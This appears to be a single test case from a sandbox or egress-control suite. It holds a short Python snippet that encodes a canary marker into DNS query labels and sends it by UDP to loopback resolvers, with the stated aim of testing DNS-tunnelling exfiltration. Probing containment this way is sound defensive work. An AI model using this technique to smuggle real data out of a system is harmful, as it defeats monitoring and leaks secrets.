# id: nw-dns-exfil
# group: network
# aim: Carry data out in the names of DNS questions to a resolver on the loopback of the host.
# judge: outside
# canary: udp
# tier-l: enforced
# source: DNS tunnelling

name = b"".join(bytes([len(label)]) + label for label in (MARKER[:40].encode(), MARKER[40:].encode() or b"x", b"invalid"))
question = b"\x12\x34\x01\x00\x00\x01" + b"\0" * 6 + name + b"\0\0\x01\0\x01" + MARKER.encode()
for address in ("127.0.0.1", "127.0.0.53", "localhost"):
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
            one.settimeout(0.3)
            one.sendto(question, (address, int(P["udp_port"])))
            print(one.recv(512).decode(errors="replace"))
    except OSError as error:
        print("refused:", error)
